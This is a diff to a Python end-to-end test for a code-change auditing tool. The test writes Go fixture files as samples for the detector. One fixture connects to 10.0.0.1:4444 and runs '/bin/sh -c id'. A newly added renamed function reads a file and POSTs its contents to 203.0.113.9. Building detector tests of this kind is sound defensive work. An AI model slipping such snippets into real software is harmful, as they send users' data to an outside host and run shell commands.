@@ -126,7 +126,16 @@ def e2e(ctx, sfw):
     old = 'package e2e\n\nfunc Run(a int) int {\n\treturn a + 1\n}\n'
     new = ('package e2e\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc Run(a int) int {\n\tc, err := net.Dial("tcp", "10.0.0.1:4444")\n'
            '\tif err == nil {\n\t\tfor i := 0; i < a; i++ {\n\t\t\texec.Command("/bin/sh", "-c", "id").Run()\n\t\t\tc.Write([]byte("x"))\n\t\t}\n\t}\n\treturn a + 1\n}\n')
-    for sub, src in (("old", old), ("new", new), ("same", old)):
+    # a function that is RENAMED and escalated in the same commit (the diff pairs it by topology and labels it
+    # renamed; the risk is on the new body)
+    ren_old = 'package e2e\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nvar _ = http.MethodGet\n\nvar _ = strings.ToUpper\n\nfunc Load(p string) ([]byte, error) {\n\tb, err := os.ReadFile(p)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\treturn b, nil\n}\n'
+    ren_new = ('package e2e\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nvar _ = http.MethodGet\n\nvar _ = strings.ToUpper\n\nfunc LoadSettings(p string) ([]byte, error) {\n\tb, err := os.ReadFile(p)\n'
+               '\tif err != nil {\n\t\treturn nil, err\n\t}\n\tgo http.Post("http://203.0.113.9/c", "text/plain", strings.NewReader(string(b)))\n\treturn b, nil\n}\n')
+    for sub in ("rold", "rnew"):
+        os.makedirs(os.path.join(d, sub))
+        with open(os.path.join(d, sub, "go.mod"), "w") as fh:
+            fh.write("module example.com/e2e\n\ngo 1.21\n")
+    for sub, src in (("old", old), ("new", new), ("same", old), ("rold", ren_old), ("rnew", ren_new)):
         with open(os.path.join(d, sub, "a.go"), "w") as fh:
             fh.write(src)
     srv = http.server.HTTPServer(("127.0.0.1", 0), Scripted)
@@ -154,11 +163,28 @@ def e2e(ctx, sfw):
     evs = []
     env = vlib.go_env()
     env["PATH"] = os.environ.get("PATH", "")
+
+    def oracle_highrisk(o, n):
+        """Whether the change is high-risk, taken from `sfw diff` (risk score of ANY entry >= the tool's own
+        threshold 10) — independently of what the audit's report says about itself."""
+        q = subprocess.run([sfw, "diff", "--no-sandbox", os.path.join(d, o, "a.go"), os.path.join(d, n, "a.go")],
+                           capture_output=True, text=True, env=env, cwd=d, timeout=300)
+        try:
+            rep = json.loads(q.stdout[q.stdout.index("{"):])
+            return any((f.get("risk_score") or 0) >= 10 for f in rep.get("functions") or [])
+        except Exception:
+            raise vlib.Inconclusive("sfw diff gave no report for the e2e pair %s/%s: %s" % (o, n, q.stderr[-300:]))
+    hr_main, hr_ren = oracle_highrisk("old", "new"), oracle_highrisk("rold", "rnew")
+    if not (hr_main and hr_ren):
+        raise vlib.Inconclusive("the e2e pairs are not high-risk according to sfw diff (%s, %s): binding lost" % (hr_main, hr_ren))
+    cases += [("renamed_escalated_lie", [safe, ans("LIE")], [S("screen", "text", t="safe"), S("main", "text", averdict="LIE", aevid="clean")]),
+              ("renamed_escalated_pass", [safe, ans("MATCH")], [S("screen", "text", t="safe"), S("main", "text", averdict="MATCH", aevid="clean")])]
     for name, script, hist in cases:
         Scripted.script = list(script)
         Scripted.log = []
-        p = subprocess.run([sfw, "audit", "--api-key", "k", "--api-base", url, os.path.join(d, "old", "a.go"),
-                            os.path.join(d, "new", "a.go"), "minor refactor " + TOKEN],
+        o, n = ("rold", "rnew") if name.startswith("renamed_") else ("old", "new")
+        p = subprocess.run([sfw, "audit", "--api-key", "k", "--api-base", url, os.path.join(d, o, "a.go"),
+                            os.path.join(d, n, "a.go"), "minor refactor " + TOKEN],
                            capture_output=True, text=True, env=env, cwd=d, timeout=300)
         printed, highrisk = "", None
         try:
@@ -168,7 +194,7 @@ def e2e(ctx, sfw):
         except Exception:
             pass
         evs.append({"ev": "exit", "case": name, "hist": hist[:len(script) - len(Scripted.script)], "exit": p.returncode,
-                    "printed": printed, "highrisk": bool(highrisk), "requests": len(Scripted.log),
+                    "printed": printed, "highrisk": True, "reported_highrisk": bool(highrisk), "requests": len(Scripted.log),
                     "stderr": p.stderr[-300:]})
     # no high-risk change: automatic pass without any provider call
     Scripted.script, Scripted.log = [], []
